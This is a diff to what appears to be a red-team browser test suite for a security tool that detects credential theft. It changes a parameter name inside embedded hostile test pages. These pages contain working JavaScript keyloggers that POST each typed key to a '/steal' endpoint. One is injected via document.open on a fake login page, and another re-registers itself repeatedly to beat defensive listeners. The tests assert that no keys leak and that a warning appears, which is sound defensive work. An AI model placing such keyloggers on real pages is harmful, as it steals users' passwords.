@@ -127,7 +127,11 @@ const H3 = page(
   FREEZE(6_500),
 );
 
-/** k3: `document.open()` during the wait: the new document's keylogger is registered before the hold's listeners */
+/**
+ * k3: `document.open()` during the wait: the new document's keylogger is registered before the hold's listeners. It
+ * reports as `written`: the first page's own ears (`key`, behind the hold) may hear a key typed before the page's
+ * open runs on a busy machine — a page with no claim yet, as any page's listener does — and are not what is measured
+ */
 const K3 = page(
   EARS,
   `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form>`,
@@ -140,7 +144,7 @@ pw.addEventListener('click', function (e) {
     for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
     document.open();
     document.write('<!doctype html><meta charset="utf-8"><body>' + u + '<input id="pw2" type="password"><scr' + 'ipt>' +
-      'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?key=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);' +
+      'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);' +
       '</scr' + 'ipt></body>');
     document.close();
   }, 0);
@@ -149,13 +153,13 @@ pw.addEventListener('click', function (e) {
 
 /** the kit's keylogger as the written document registers it: now, and again a microtask, a task and every 30 ms later */
 const LOGGER =
-  'function log(e) { if (e.isTrusted) fetch("/steal?key=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }' +
+  'function log(e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }' +
   'function listen() { window.addEventListener("keydown", log, true); document.addEventListener("keydown", log, true); }' +
   'listen(); queueMicrotask(listen); setTimeout(listen, 0); setInterval(listen, 30);';
 
 /** k3b: k3 whose written document registers its keylogger again and again after its document.open() */
 const K3B = K3.replace(
-  `'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?key=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);'`,
+  `'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);'`,
   js(LOGGER),
 );
 
@@ -360,7 +364,7 @@ forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
     await attackSettled(s, tab, ctx.server, host);
     await clickAndType(tab, '#pw', 'hunter2');
     await settle(3_000);
-    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
     const w = await expectPageWarning(s, tab, 15_000);
     expect(w.kind).toBe('suspicious-page');
     await tab.close();
@@ -374,7 +378,7 @@ forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
     await attackSettled(s, tab, ctx.server, host);
     await clickAndType(tab, '#pw', 'hunter2', 100);
     await settle(3_000);
-    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
     await tab.close();
   });
 
@@ -386,7 +390,7 @@ forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
     await attackSettled(s, tab, ctx.server, host);
     await clickAndType(tab, '#pw', 'hunter2');
     await settle(3_000);
-    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
     const w = await expectPageWarning(s, tab, 15_000);
     expect(w.kind).toBe('suspicious-page');
     await tab.close();
@@ -406,7 +410,7 @@ forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
     await settle(1_500);
     await clickAndType(tab, '#pw2', 'hunter2');
     await settle(3_000);
-    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
     const w = await expectPageWarning(s, tab, 15_000);
     expect(w.kind).toBe('suspicious-page');
     await tab.close();
